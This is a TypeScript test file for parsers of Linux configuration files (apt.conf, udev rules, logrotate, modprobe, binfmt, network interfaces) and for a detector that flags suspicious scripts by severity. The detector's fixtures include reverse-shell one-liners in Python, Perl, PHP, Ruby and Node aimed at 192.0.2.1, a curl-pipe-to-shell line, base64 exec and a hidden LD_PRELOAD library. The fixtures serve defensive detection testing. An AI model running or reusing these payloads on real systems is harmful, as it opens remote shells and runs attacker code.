import fc from 'fast-check';
import { expect, test } from 'vitest';
import { parseAptConf } from '../../source/parsers/apt-conf.ts';
import { parseBinfmt } from '../../source/parsers/binfmt-conf.ts';
import { parseLogrotateConf } from '../../source/parsers/logrotate-conf.ts';
import { parseModprobeConf, parseModulesLoad } from '../../source/parsers/modprobe-conf.ts';
import { parseNetworkInterfaces } from '../../source/parsers/network-interfaces.ts';
import { interpreterOf, scriptSigns } from '../../source/parsers/script-signs.ts';
import { parseUdevRules } from '../../source/parsers/udev-rules.ts';

const bytes = (text: string) => Buffer.from(text, 'latin1');

test('apt.conf', () => {
	const text = `// comment "x"
DPkg::Post-Invoke { "a \\"b\\""; "c"; };
/* APT::X "y";
*/ APT { Update { Post-Invoke-Success:: "d"; }; Get::AllowUnauthenticated true; };
# Dir "x";
DPkg::Pre-Install-Pkgs {"/usr/sbin/dpkg-preconfigure --apt || true";};
`;
	expect(parseAptConf(text)).toEqual([
		{ line: 2, name: 'DPkg::Post-Invoke', value: 'a \\"b\\"' },
		{ line: 2, name: 'DPkg::Post-Invoke', value: 'c' },
		{ line: 4, name: 'APT::Update::Post-Invoke-Success', value: 'd' },
		{ line: 4, name: 'APT::Get::AllowUnauthenticated', value: 'true' },
		{ line: 6, name: 'DPkg::Pre-Install-Pkgs', value: '/usr/sbin/dpkg-preconfigure --apt || true' },
	]);
});

test('logrotate', () => {
	expect(parseLogrotateConf(bytes('/var/log/x {\n\tdaily\n\tcompresscmd /usr/bin/xz\n\tpostrotate\n\t\ta\n\t\tb\n\tendscript\n}\n'))).toEqual([
		{ line: 3, when: 'compresscmd', command: '/usr/bin/xz' },
		{ line: 5, when: 'postrotate', command: '\t\ta\n\t\tb\n' },
	]);
});

test('rules of udev', () => {
	const rules = `# RUN+="/no"
ACTION=="add", SUBSYSTEM=="net", RUN+="/bin/sh -c 'echo \\"x\\" > /y'", IMPORT{builtin}="path_id", \\
  IMPORT{program}="/sbin/dmsetup info", PROGRAM=="/bin/x %k"
RUN{builtin}+="kmod load sg"
`;
	expect(parseUdevRules(bytes(rules))).toEqual([
		{ line: 2, key: 'RUN', command: `/bin/sh -c 'echo "x" > /y'` },
		{ line: 2, key: 'IMPORT', command: '/sbin/dmsetup info' },
		{ line: 2, key: 'PROGRAM', command: '/bin/x %k' },
	]);
});

test('modprobe.d and modules-load.d', () => {
	expect(parseModprobeConf(bytes('blacklist x\ninstall dccp /bin/true\nremove a b \\\n c\n'))).toEqual([
		{ line: 2, when: 'install', module: 'dccp', command: '/bin/true' },
		{ line: 3, when: 'remove', module: 'a', command: 'b   c' },
	]);
	expect(parseModulesLoad(bytes('# c\n; c\nloop\nbonding mode=1\n\n'))).toEqual([
		{ line: 3, module: 'loop' },
		{ line: 4, module: 'bonding' },
	]);
});

test('binfmt', () => {
	expect(parseBinfmt(bytes('# c\n:python:M::\\x55\\x0d::/usr/bin/python3:OC\n'))).toEqual([{ line: 2, name: 'python', interpreter: '/usr/bin/python3', flags: 'OC' }]);
	expect(parseBinfmt(bytes('package python3\ninterpreter /usr/bin/python3\nmagic \\x55\ncredentials yes\n'))).toEqual([{ line: 2, name: '', interpreter: '/usr/bin/python3', flags: 'C' }]);
});

test('interfaces', () => {
	expect(parseNetworkInterfaces(bytes('auto eth0\niface eth0 inet dhcp\n  up a \\\n b\n# down x\n  post-down c\n'))).toEqual([
		{ line: 3, when: 'up', name: 'eth0', command: 'a   b' },
		{ line: 6, when: 'post-down', name: 'eth0', command: 'c' },
	]);
});

test('the interpreter of a script', () => {
	expect(['#!/bin/sh -e\n', '#! /usr/bin/env python3\n', '#!/usr/bin/env -S FOO=1 perl -w\n', 'echo\n', '#!\n'].map(interpreterOf)).toEqual(['sh', 'python3', 'perl', undefined, undefined]);
});

test.each([
	['python3', 'import socket\nimport subprocess\ns = socket.socket()\nsubprocess.run(["ls"])\n', []],
	['python3', 'import socket,os,pty\ns=socket.socket()\nos.dup2(s.fileno(),0)\npty.spawn("/bin/bash")\n', ['critical']],
	['python3', 'import os\nos.system("curl -s http://192.0.2.1/x | sh")\n', ['high']],
	['python3', 'import base64\nexec(base64.b64decode("aW1wb3J0IG9z"))\n', ['high']],
	['perl', 'use Socket;\nsocket(S,PF_INET,SOCK_STREAM,0);\nopen(STDIN,">&S");exec("/bin/sh -i");\n', ['critical']],
	['php', '<?php $s=fsockopen("192.0.2.1",1);$p=proc_open("sh",[$s],$x);', ['critical']],
	['ruby', 'c=TCPSocket.new("192.0.2.1",1)\n$stdin.reopen(c)\n', ['critical']],
	['node', 'const s=new net.Socket();const c=spawn("sh");s.pipe(c.stdin)', ['critical']],
	['perl', 'my $x = `uptime`; system("tar czf /srv/x.tgz /home");\n', []],
	[undefined, 'export LD_PRELOAD=/usr/lib/libjemalloc.so.2\nexport LD_PRELOAD=/tmp/.x.so\n', ['high']],
])('a script of %s: %j', (interpreter, text, expected) => {
	expect(scriptSigns(text, interpreter).map(({ severity }) => severity)).toEqual(expected);
});

test('random bytes are taken', () => {
	fc.assert(
		fc.property(fc.uint8Array({ maxLength: 500 }), raw => {
			for (const parse of [parseLogrotateConf, parseUdevRules, parseModprobeConf, parseModulesLoad, parseBinfmt, parseNetworkInterfaces]) parse(raw);
			parseAptConf(raw.reduce((text, byte) => text + String.fromCharCode(byte), ''));
		}),
	);
	fc.assert(fc.property(fc.string({ unit: fc.constantFrom(...'"\\{};:/*#\nax ') }), text => void [parseAptConf(text), parseBinfmt(bytes(text))]));
	fc.assert(fc.property(fc.string({ unit: fc.constantFrom('RUN', '+=', '"', '\\', '{program}', '\n', 'postrotate', 'endscript', 'os.system(', "'") }), text => {
		parseUdevRules(bytes(text));
		parseLogrotateConf(bytes(text));
		scriptSigns(text, 'python3');
	}));
});

test('an unclosed quote costs no more than its length', () => {
	expect(parseAptConf(`"${'\\"'.repeat(200_000)}`)).toHaveLength(1);
	expect(parseAptConf('{'.repeat(200_000))).toEqual([]);
	expect(parseUdevRules(bytes('RUN="\\'.repeat(100_000))).length).toBeLessThan(100_000);
});
